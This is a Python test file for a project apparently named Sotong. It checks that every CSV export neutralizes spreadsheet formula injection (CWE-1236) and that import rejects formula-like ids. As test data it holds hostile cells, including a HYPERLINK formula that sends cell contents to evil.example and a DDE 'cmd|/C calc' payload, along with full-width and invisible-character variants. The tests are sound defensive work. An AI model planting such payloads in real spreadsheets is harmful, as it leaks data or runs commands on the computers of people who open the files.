"""CSV formula injection (CWE-1236): every CSV Sotong writes (subscribers
export, sms.csv, the annual report, survey results) neutralizes cells a
spreadsheet would run as formulas, reading them back undoes it, and import
refuses ids that start like a formula."""

from __future__ import annotations

import csv
import re
from pathlib import Path

from project_support import REPO, copy_project, invoke_sotong
from delivery_support import run_cli
import pytest
from hypothesis import given, settings, strategies as st

from sotong.project import Project
from sotong.spreadsheet import looks_like_formula, neutralized, restored
from sotong.store import Store, Subscriber

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"보기")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=1+1", "''+1"]
# What spreadsheets run too: the full-width signs a Korean IME types, and a sign after what shows nothing
FULL_WIDTH_AND_HIDDEN = ["\uff1dSUM(1)", "\uff0b1", "\uff0d2+3", "\uff20SUM(A1)", "\u200b=1+1", "\ufeff+1",
                         "\u200c-1", "\u200d@A1", "\u2060=1", "\u00a0=1", " =1", "  \u200b \uff1d1", "\u3000=1"]
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
SHOWING_NOTHING = " \t\r\u00a0\u200b\u200c\u200d\u2060\ufeff\u3000"  # white space and invisible format characters
cells = st.text(alphabet=st.sampled_from(SIGNS + SHOWING_NOTHING + "' a1가,\"ａ"), max_size=8)


def formula_like_by_reading(text: str) -> bool:
    """OWASP's rule as spreadsheets run it: past the leading quotes, a tab or
    CR first, or a formula sign (ASCII or full-width) first once white space
    and invisible characters are dropped."""
    rest = text.lstrip("'")
    return rest[:1] in ("\t", "\r") and rest != "" or rest.lstrip(SHOWING_NOTHING)[:1] in tuple(SIGNS)


@given(cells)
@settings(max_examples=500)
def test_neutralized_against_a_reading_of_owasp(text):
    """A cell is changed iff, past its leading quotes, it starts like a formula (=
    + - @ tab CR, ＝ ＋ － ＠, or a sign after spaces and invisible characters);
    then it gets one quote more; nothing written starts like a formula; reading undoes it."""
    assert neutralized(text) == ("'" + text if formula_like_by_reading(text) else text)
    assert not looks_like_formula(neutralized(text))
    assert restored(neutralized(text)) == text


@given(st.text(max_size=12))
@settings(max_examples=500)
def test_any_text_round_trips(text):
    assert restored(neutralized(text)) == text and not looks_like_formula(neutralized(text))


@pytest.mark.parametrize("text", HOSTILE[:6] + FULL_WIDTH_AND_HIDDEN)
def test_full_width_signs_and_a_sign_after_invisible_characters_are_neutralized(text):
    assert looks_like_formula(text) and neutralized(text) == "'" + text and restored("'" + text) == text


@pytest.mark.parametrize("text", ["1+1", "a=1", "\uff21=1", "\u200b", "", "  ", "\u200ba=1", "[성동구]"])
def test_what_no_spreadsheet_runs_is_written_as_it_is(text):
    assert not looks_like_formula(text) and neutralized(text) == text


def test_numbers_stay_numbers():
    assert neutralized(-3) == -3 and neutralized(0.25) == 0.25


def read_csv(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as file:
        return list(csv.reader(file))


SUBSCRIBERS = """id,name,email,phone,birth_year,gender,dong,fields,channels,kind,business_type,subscribed_at,unsubscribed_at
S1,"=HYPERLINK(""http://evil.example"",""보기"")",=cmd@example.com,+82 10 1234 5678,1970,F,yongdap,culture,email;sms,person,,2026-01-02,
S2,@SUM(1),-dash@example.com,'+82 10 2222 3333,1980,M,yongdap,culture,email;sms,person,,,
S3,'=1+1,s3@example.com,010-3333-4444,1990,F,yongdap,culture,email,person,,,
=1+1,김수상,x1@example.com,,1970,F,yongdap,culture,email,person,,,
@cmd,김수상,x2@example.com,,1970,F,yongdap,culture,email,person,,,
-7,김수상,x3@example.com,,1970,F,yongdap,culture,email,person,,,
+7,김수상,x4@example.com,,1970,F,yongdap,culture,email,person,,,
'=2+2,김수상,x5@example.com,,1970,F,yongdap,culture,email,person,,,
＝1+1,김수상,x6@example.com,,1970,F,yongdap,culture,email,person,,,
＠cmd,김수상,x7@example.com,,1970,F,yongdap,culture,email,person,,,
S4,＋SUM(1),＝s4@example.com,,1970,F,yongdap,culture,email,person,,,
"""


def test_subscribers_export_neutralizes_and_import_round_trips(tmp_path):
    project = copy_project(tmp_path)
    (tmp_path / "in.csv").write_text(SUBSCRIBERS, encoding="utf-8")
    imported = invoke_sotong(project, "subscribers", "import", str(tmp_path / "in.csv"))
    assert imported.code == 1
    rejected = [line for line in imported.stderr.splitlines() if "a spreadsheet runs as a formula" in line]
    assert [int(re.match(r".*in\.csv:(\d+):", line).group(1)) for line in rejected] == [5, 6, 7, 8, 9, 10, 11]
    assert 'id "=2+2" starts with "="' in imported.stderr  # a quoted formula id is still one
    assert 'id "＝1+1" starts with "＝"' in imported.stderr and 'id "＠cmd" starts with "＠"' in imported.stderr
    assert "4 added, 0 updated, 0 unchanged, 7 rejected" in imported.stdout
    store = Store.open(project / "private" / "sotong.db")
    stored = {row[0]: row[1:] for row in store.db.execute("SELECT id, name, email, phone FROM subscribers")}
    store.close()
    assert stored == {"S1": ('=HYPERLINK("http://evil.example","보기")', "=cmd@example.com", "010-1234-5678"),
                      "S2": ("@SUM(1)", "-dash@example.com", "010-2222-3333"),
                      "S3": ("=1+1", "s3@example.com", "010-3333-4444"), "S4": ("＋SUM(1)", "=s4@example.com", None)}  # an address is read NFKC

    assert invoke_sotong(project, "subscribers", "export", str(tmp_path / "out.csv")).code == 0
    rows = {row[0]: row for row in read_csv(tmp_path / "out.csv")[1:]}
    assert rows["S1"][1:4] == ['\'=HYPERLINK("http://evil.example","보기")', "'=cmd@example.com", "010-1234-5678"]
    assert rows["S2"][1:3] == ["'@SUM(1)", "'-dash@example.com"] and rows["S3"][1] == "'=1+1"
    assert rows["S4"][1:3] == ["'＋SUM(1)", "'=s4@example.com"]
    assert not any(looks_like_formula(cell) for row in rows.values() for cell in row)
    again = invoke_sotong(project, "subscribers", "import", str(tmp_path / "out.csv"))
    assert again.code == 0 and "0 added, 0 updated, 4 unchanged, 0 rejected" in again.stdout


def test_sms_csv_neutralizes_and_send_reads_it_back(tmp_path):
    """An id that starts like a formula gets its quote, and send reads it back;
    a text never does: check refuses a header that starts like one (every text
    starts with the header, and the agency would send the quote)."""
    project = copy_project(tmp_path)
    store = Store.open(project / "private" / "sotong.db")
    for subscriber_id in ("-S1", "S2"):  # "-S1": an id stored before import refused such ids
        store.put_subscriber(Subscriber(id=subscriber_id, phone="010-1234-5678", birth_year=1970, dong="yongdap",
                                        fields=frozenset({"living", "survey"}), channels=frozenset({"sms"})))
    store.close()
    assert run_cli(project / "pelicanconf.py", "bundles", "--issue", "2026-11-26").code == 0
    outbox = project / "private" / "outbox" / "2026-11-26"
    rows = read_csv(outbox / "sms.csv", encoding="utf-8")
    assert rows[0] == ["id", "phone", "type", "bytes", "text"]
    assert sorted(row[0] for row in rows[1:]) == ["'-S1", "S2"]
    assert all(row[4].startswith("[성동구]") and int(row[3]) == len(row[4].encode("cp949")) for row in rows[1:])
    from delivery.outbox import read_outbox

    messages = read_outbox(Project(project / "pelicanconf.py").settings, "2026-11-26", "issue", str).messages
    assert sorted(m.subscriber_id for m in messages if m.channel == "sms") == ["-S1", "S2"]


def test_the_annual_report_csv_neutralizes_names(tmp_path):
    from delivery.annual import annual_report, write_report

    report = annual_report(2026, [("2026-03", "EMAIL", "a", '=HYPERLINK("x")', "culture", "-2+3", 4, 4, None)])
    _html, csv_path = write_report(report, tmp_path, "성동구 소통")
    rows = {(row[0], row[1]): row[2:] for row in read_csv(csv_path)}
    assert rows[("by department", '\'=HYPERLINK("x")')][:5] == ["1", "4", "0", "0", "4"]
    assert rows[("by field", "'-2+3")][:5] == ["1", "4", "0", "0", "4"]
    assert not any(looks_like_formula(item) for _table, item in rows)


def test_survey_results_csv_neutralizes_options(tmp_path):
    from survey.results import Results, QuestionResult, Row, write_csv

    results = Results("s", "설문", 2, 2, (QuestionResult("pick", "single", "고르기", (
        Row("=1+1", 1, 0.5), Row("@cmd", 1, 0.5))),))
    write_csv(tmp_path / "results.csv", results)
    rows = read_csv(tmp_path / "results.csv")
    assert rows[1:] == [["pick", "'=1+1", "1", "0.5000"], ["pick", "'@cmd", "1", "0.5000"]]


def test_every_csv_writer_goes_through_the_shared_helper():
    writers = [path.relative_to(REPO) for folder in ("sotong", "plugins") for path in (REPO / folder).rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert [str(path) for path in writers] == ["sotong/spreadsheet.py"]
